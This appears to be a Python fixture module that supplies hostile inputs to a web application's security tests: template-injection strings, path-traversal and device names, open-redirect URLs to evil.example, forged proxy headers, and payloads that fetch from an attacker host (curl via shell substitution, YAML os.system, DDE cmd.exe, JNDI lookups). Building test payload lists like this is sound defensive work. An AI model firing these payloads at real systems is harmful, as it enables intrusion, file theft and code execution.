"""What strangers send where words, addresses, file names and files are expected. Words that only look odd: tests/hostile.py.

Whoever adds a way in adds what could come in there; the tests deal these over whatever routes the application has, and
`python -m tests.security.counts` counts them.
"""

from __future__ import annotations

from itertools import product

ELSEWHERE = "evil.example"
"""A host that is not ours: nothing we send may lead there."""

# -- placeholders: what some template, format or formula would replace ---------------------------------------------------

PRODUCT = "13370042"
TIMES = "6685021*2"
"""What it would come to, so that nobody meets the number by chance."""
PLACEHOLDERS = (
    f"{{{{{TIMES}}}}}",
    f"{{{{ {TIMES} }}}}",
    f"{{%print({TIMES})%}}",
    f"{{% set x = {TIMES} %}}{{{{ x }}}}",
    f"${{{TIMES}}}",
    f"#{{{TIMES}}}",
    f"*{{{TIMES}}}",
    f"@({TIMES})",
    f"<%= {TIMES} %>",
    f"<#assign x={TIMES}>${{x}}",
    f"[[${{{TIMES}}}]]",
    f"{{{{={TIMES}}}}}",
    f"=({TIMES})",
    f"#({TIMES})",
    f'#eval("{TIMES}")',
    f"$(({TIMES}))",
    f"`expr {TIMES}`",
    f"{{php}}echo {TIMES};{{/php}}",
    f"{{{{#with {TIMES}}}}}{{{{this}}}}{{{{/with}}}}",
    f"{{= {TIMES} =}}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ request.application.__globals__ }}",
    "{{ url_for.__globals__['current_app'].config }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ page|attr('__class__') }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ shell.csrf }}",
    "{{ page.form }}",
    "{% include 'pages/base.html' %}",
    "{% import 'parts/kept.html' as kept %}",
    "{% extends 'pages/base.html' %}",
    "{% for x in range(100000000) %}x{% endfor %}",
    "{{ 'x' * 100000000 }}",
    "{0.__class__.__init__.__globals__}",
    "{page.__class__}",
    "{foundation.__class__}",
    "{partnership!r}",
    "{foundation:>1000000000}",
    "{:1000000000}",
    "{0[secret_key]}",
    "{self}",
    "{{foundation}}",
    "{partnership} {home.host} {home.host|label} {item}",
    "%(foundation)s",
    "%(__class__)s",
    "%1000000000d",
    "%c%c%c%n",
    "$foundation ${foundation} $$",
    "${jndi:ldap://127.0.0.1/x}",
    "${env:HOME} $HOME %HOME% %PATH%",
    "{% raw %}{{ x }}{% endraw %}",
    "{#{#{#",
    "{%{%{%",
    "}}%}#}",
    "\\u007b\\u007b7*7\\u007d\\u007d",
    "&#123;&#123;7*7&#125;&#125;",
    "｛｛7*7｝｝",
    "«foundation»",
    "MERGEFIELD foundation",
    "{ MERGEFIELD foundation \\* MERGEFORMAT }",
    "!ENV ${HOME}",
    "!include /etc/hostname",
    "!!python/name:os.environ",
    "<<foundation>>",
    "[% foundation %]",
    ":foundation: @foundation ~foundation~",
)
"""None is ever replaced: whoever opens a file reads them to the letter."""

# -- paths and file names ------------------------------------------------------------------------------------------------

_UP = (
    "../",
    "%2e%2e/",
    "..%2f",
    "%2e%2e%2f",
    "..%5c",
    "%2e%2e%5c",
    "..%252f",
    "%252e%252e%252f",
    "..%c0%af",
    "%c0%ae%c0%ae%2f",
    "%ef%bc%8e%ef%bc%8e%2f",
    "%e2%80%a4%e2%80%a4%2f",
    "..%ef%bc%8f",
    "..%e2%88%95",
    "....//",
    "....%2f%2f",
    "..;/",
    "..%3b%2f",
    "..%00%2f",
    ".%00.%2f",
    "..%0a%2f",
    "..%20%2f",
)
_TO = ("etc%2fpasswd", "etc/passwd", "secret-key", "upfront.sqlite3", "webapp/config.py", "pages/base.html")
_ABSOLUTE = (
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "//etc/passwd",
    "%2f%2fetc%2fpasswd",
    "file:///etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
    "C:%5cwindows%5cwin.ini",
    "C:/windows/win.ini",
    "%5c%5cevil.example%5cshare%5cx",
    "%5c%5c%3f%5cC:%5cwindows",
    "%2fproc%2fself%2fenviron",
    "/proc/self/environ",
    "%2fdev%2fstdin",
    "/dev/zero",
    "~/.ssh/id_rsa",
    "~root%2f.profile",
)
_DEVICES = (
    *("CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "CLOCK%24", "CONIN%24", "con.md", "nul.pdf", "aux.html", "com1.docx"),
    *("CON%3a", "NUL%20", "NUL.", "x%3a%3a%24DATA", "index.html%3a%3a%24DATA", "x%3astream"),
)
_SIGNS = (
    *(
        "%00",
        "x%00",
        "%00x",
        "x%00.md",
        "md%00.html",
        "%0a",
        "%0d%0a",
        "x%0d%0aSet-Cookie%3a%20a=b",
        "%09",
        "%7f",
        "%1b%5b31m",
    ),
    *("%ff%fe", "%ed%a0%80", "%f0%9f%98%80", "%e2%80%ae", "%c2%a0", "%e2%80%8b", "%ef%bb%bf", "%f4%90%80%80", "%25", "%2"),
    *(
        "%zz",
        "%u002e",
        "%2525",
        "%26",
        "%3f",
        "%23",
        "%3b",
        "%7c",
        "%60id%60",
        "%24(id)",
        "%24%7bHOME%7d",
        "%22",
        "%27",
        "%3c",
    ),
)
_NAMES = (
    *(
        ".",
        "..",
        "...",
        "....",
        ".git",
        ".git/config",
        ".env",
        ".htaccess",
        "-rf",
        "--help",
        "*",
        "%2a%2a",
        "[a-z]",
        "{a,b}",
    ),
    *("__init__", "__class__", "__proto__", "constructor", "__import__", "self", "None", "null", "undefined", "true", "NaN"),
    *("0", "-1", "1e309", "9" * 400, "0x10", "%d9%a1", "x" * 5_000, "x@1", "pot@0", "pot@-1", "pot@99999999999999999999"),
    *(
        "home.host@",
        "@",
        "home..host",
        ".home.host",
        "home.host.",
        "HOME.HOST",
        "home.host%00",
        "edit:",
        "edit:x~y",
        "%7b%7b7*7%7d%7d",
    ),
    *(
        "%7b0.__class__%7d",
        "%25s",
        "' OR '1'='1",
        "1;DROP TABLE answers",
        "x.md.exe",
        "md.",
        ".md",
        "MD",
        "html5",
        "pdf%2f..%2fmd",
    ),
)
PATHS = tuple(
    dict.fromkeys(
        [f"{up * 3}{to}" for up, to in product(_UP, _TO)] + [*_ABSOLUTE, *_DEVICES, *_SIGNS, *_NAMES],
    )
)
"""As they stand in an address, in place of anything that a route leaves open."""

# -- places that are not ours --------------------------------------------------------------------------------------------

_SLASHES = (
    "//",
    "///",
    "////",
    "/\\",
    "\\/",
    "\\\\",
    "\\",
    "/\t/",
    "/%09/",
    "/%5c",
    "/%2f",
    "/%2f%2f",
    "%2f%2f",
    "%5c%5c",
    "/.//",
    "/;//",
)
_BEFORE = ("", "https:", "http:", "https:/", "http://", "https://", "HTTPS://", "ftp://", "javascript:", "data:text/html,")
_ODD = (
    *(
        "https://ours@evil.example/",
        "//127.0.0.1:8000@evil.example/",
        "https://127.0.0.1:8000@evil.example/",
        "//@evil.example",
    ),
    *(
        "https://127.0.0.1:8000.evil.example/",
        "http://127.0.0.1:8000:80@evil.example/",
        "http://evil.example#@127.0.0.1:8000/",
    ),
    *(
        "http://evil.example?@127.0.0.1:8000/",
        "http://evil.example\\@127.0.0.1:8000/",
        "http://127.0.0.1:8000\\@evil.example/",
    ),
    *(
        "/\r\nLocation: https://evil.example",
        "/%0d%0aLocation:%20https://evil.example",
        "/\n//evil.example",
        "\r\n//evil.example",
    ),
    *(
        " //evil.example",
        "\t//evil.example",
        "\x00//evil.example",
        "\x0b//evil.example",
        "\u2028//evil.example",
        "\ufeff//evil.example",
    ),
    *(
        "／／evil.example",
        "/／evil.example",
        "//evil。example",
        "//evil%E3%80%82example",
        "//\u202eelpmaxe.live",
        "//evil.example%00.ours",
    ),
    *(
        "javascript:alert(1)//evil.example",
        "JaVaScRiPt://evil.example/%0aalert(1)",
        "java\nscript:alert(1)",
        "vbscript:evil.example",
    ),
    *(
        "data:text/html;base64,PHNjcmlwdD4=",
        "blob:https://evil.example/x",
        "view-source:https://evil.example",
        "file://evil.example/x",
    ),
    *(
        "/assessments/../../evil.example",
        "/..//evil.example",
        "/./\\evil.example",
        "/assessments//evil.example",
        "/sign-in//evil.example",
    ),
    *("/?next=//evil.example", "/#//evil.example", "/assessments?before=//evil.example", "/sign-in?next=//evil.example"),
    *(
        "//[::1]@evil.example",
        "https://[evil.example]/",
        "//0x7f000001/",
        "//2130706433/",
        "https:evil.example",
        "https:\\evil.example",
    ),
    *(
        "https:/\\evil.example",
        "https:///evil.example",
        "http:/evil.example",
        "http:\\\\evil.example",
        "mailto:a@evil.example",
    ),
    *(
        "//evil.example/assessments",
        "//evil.example:8000/",
        "//evil.example\\assessments",
        "http://localhost:8000.evil.example/",
    ),
)
REDIRECTS = tuple(dict.fromkeys([f"{before}{slash}{ELSEWHERE}" for slash in _SLASHES for before in _BEFORE[:4]] + [*_ODD]))
"""Typed into whatever says where to go on."""

# -- names of hosts ------------------------------------------------------------------------------------------------------

FORWARDED = (
    {"X-Forwarded-Host": ELSEWHERE},
    {"X-Forwarded-Host": f"{ELSEWHERE}, 127.0.0.1:8000"},
    {"X-Forwarded-Server": ELSEWHERE},
    {"X-Forwarded-Proto": "https"},
    {"X-Forwarded-Scheme": "https"},
    {"X-Forwarded-Ssl": "on"},
    {"Front-End-Https": "on"},
    {"X-Forwarded-Port": "6666"},
    {"X-Forwarded-Prefix": f"//{ELSEWHERE}"},
    {"X-Forwarded-Path": f"//{ELSEWHERE}"},
    {"X-Script-Name": f"/{ELSEWHERE}"},
    {"X-Forwarded-For": f"127.0.0.1, {ELSEWHERE}"},
    {"X-Real-Ip": ELSEWHERE},
    {"Forwarded": f"for=127.0.0.1;host={ELSEWHERE};proto=https"},
    {"X-Host": ELSEWHERE},
    {"X-Http-Host-Override": ELSEWHERE},
    {"X-Original-Host": ELSEWHERE},
    {"X-Original-Url": f"//{ELSEWHERE}/"},
    {"X-Rewrite-Url": f"//{ELSEWHERE}/"},
    {"X-Http-Method-Override": "DELETE"},
    {"X-Method-Override": "POST"},
    {"Referer": f"https://{ELSEWHERE}/"},
)
"""What proxies add, or others in their name. Where no proxy is trusted none of it changes anything."""
HOSTS = (
    *(
        ELSEWHERE,
        f"{ELSEWHERE}:8000",
        "127.0.0.1:8001",
        "127.0.0.1",
        f"127.0.0.1:8000@{ELSEWHERE}",
        f"127.0.0.1:8000.{ELSEWHERE}",
    ),
    *(
        f"{ELSEWHERE}#127.0.0.1:8000",
        f"127.0.0.1:8000, {ELSEWHERE}",
        "127.0.0.1:8000/",
        "127.0.0.1:8000?",
        "",
        "0.0.0.0:8000",
    ),
)

# -- what would fetch something ------------------------------------------------------------------------------------------

# `{web}` is the address of a server that must hear nothing, `{file}` a file that must stay closed.
_FETCHING = (
    *(
        "{web}/plain",
        "file://{file}",
        "{file}",
        "//{host}/x",
        "ftp://{host}/x",
        "gopher://{host}/x",
        "attachment:{file}",
        "data:text/html,{web}",
    ),
    *("<img src={web}/img>", "<img src=file://{file}>", "<img srcset='{web}/set 1x'>", "<input type=image src={web}/input>"),
    *("<link rel=stylesheet href={web}/link>", "<link rel=prefetch href={web}/pre>", "<script src={web}/script></script>"),
    *("<style>@import url({web}/css)</style>", "@import url({web}/import);", "</style><style>@import '{web}/two';</style>"),
    *("<p style='background:url({web}/style)'>", "url({web}/url)", '");background:url({web}/string);x:("'),
    *(
        "<object data={web}/object></object>",
        "<embed src=file://{file}>",
        "<iframe src={web}/frame></iframe>",
        "<base href={web}/>",
    ),
    *(
        "<video poster={web}/poster></video>",
        "<audio src={web}/audio autoplay>",
        "<meta http-equiv=refresh content='0;url={web}/meta'>",
    ),
    *("<svg xmlns='http://www.w3.org/2000/svg'><image href='{web}/svg'/></svg>", "<svg><use href='{web}/use#x'/></svg>"),
    *(
        "<?xml-stylesheet href='{web}/xsl'?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{file}'>]><x>&e;</x>",
        "<!DOCTYPE x SYSTEM '{web}/dtd'>",
    ),
    *(
        "<xi:include href='file://{file}' parse='text'/>",
        "![seen]({web}/markdown)",
        "![seen](file://{file})",
        "[a]: {web}/ref 'x'\n![a]",
    ),
    *(
        '#image("{file}")',
        '#read("{file}")',
        '#include "{file}"',
        '#json("{file}")',
        '#plugin("{file}")',
        '#import "@preview/x:1.0.0"',
    ),
    *(
        "\\input{{{file}}}",
        "\\includegraphics{{{file}}}",
        "\\write18{{curl {web}/tex}}",
        ".. include:: {file}",
        "<<include {file}>>",
    ),
    *(
        'INCLUDETEXT "{file}"',
        'INCLUDEPICTURE "{web}/word"',
        'DDEAUTO c:\\\\windows\\\\cmd.exe "/k curl {web}/dde"',
        'LINK Word.Document "{file}"',
    ),
    *(
        '=WEBSERVICE("{web}/sheet")',
        '=IMPORTDATA("{web}/data")',
        '=HYPERLINK("{web}/cell")',
        "<w:instrText>INCLUDEPICTURE {web}/w</w:instrText>",
    ),
    *(
        "{{% include '{file}' %}}",
        "{{{{ open('{file}').read() }}}}",
        "${{file:UTF-8:{file}}}",
        "${{jndi:ldap://{host}/x}}",
        "!include {file}",
    ),
    *(
        "!!python/object/apply:os.system ['curl {web}/yaml']",
        "`curl {web}/shell`",
        "$(curl {web}/sub)",
        "|curl {web}/pipe",
        "javascript:fetch('{web}/js')",
    ),
)


def fetching(host: str, file: str) -> tuple[str, ...]:
    """Words that would fetch from this host, or open this file, if anything took them for more than words."""
    return tuple(one.format(web=f"http://{host}", host=host, file=file) for one in _FETCHING)


FETCHING = len(_FETCHING)
